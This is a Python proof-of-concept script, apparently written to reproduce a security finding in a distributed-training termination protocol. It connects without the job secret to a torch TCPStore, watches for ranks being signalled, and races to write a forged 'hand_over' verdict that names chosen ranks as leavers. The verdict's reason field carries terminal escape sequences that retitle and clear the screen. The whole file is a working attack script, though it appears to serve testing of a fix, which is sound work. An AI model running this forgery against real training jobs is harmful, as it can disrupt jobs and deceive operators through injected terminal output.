"""A store client that publishes a hand-over verdict of its own (issue 47, finding 2).

Without the job secret it can still read every key (``list_keys``): once a rank of the job records
that it was signalled -- a ``.../termination/<namespace>/signalled`` log appears -- it writes that
termination's ``hand_over`` verdict first, during the ranks' settle time: ``--leavers`` leave,
unsealed (in a job without a secret that is what a real one looks like), with a reason holding
terminal escape sequences.

    python forge_hand_over.py --endpoint HOST:PORT --leavers 0,1

Prints ``watching`` once connected and ``forged KEY`` once written; ends after ``--seconds``,
on SIGTERM, or when the store is gone.
"""

from __future__ import annotations

import argparse
import datetime
import json
import signal
import time

import torch.distributed as dist


def main() -> int:
    parser = argparse.ArgumentParser()
    parser.add_argument("--endpoint", required=True)
    parser.add_argument("--leavers", required=True, help="comma-separated ranks the verdict has leave")
    parser.add_argument("--seconds", type=float, default=120.0)
    args = parser.parse_args()
    signal.signal(signal.SIGTERM, lambda *_: (_ for _ in ()).throw(SystemExit(0)))
    host, _, port = args.endpoint.rpartition(":")
    store = dist.TCPStore(host, int(port), is_master=False, timeout=datetime.timedelta(seconds=30))
    verdict = json.dumps({"leavers": [int(r) for r in args.leavers.split(",")],
                          "reason": "\x1b]0;owned\x07\x1b[2J every rank leaves now"})
    print("watching", flush=True)
    end = time.monotonic() + args.seconds
    forged: set[str] = set()
    while time.monotonic() < end:
        try:
            keys = store.list_keys()
        except (RuntimeError, OSError):
            return 0  # the store is gone: the job ended
        for key in keys:
            if "/termination/" in key and key.endswith("/signalled"):
                target = key[: -len("signalled")] + "hand_over"
                if target not in forged:
                    store.compare_set(target, "", verdict)  # first writer wins, as the ranks' own
                    forged.add(target)
                    print(f"forged {target}", flush=True)
        time.sleep(0.005)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
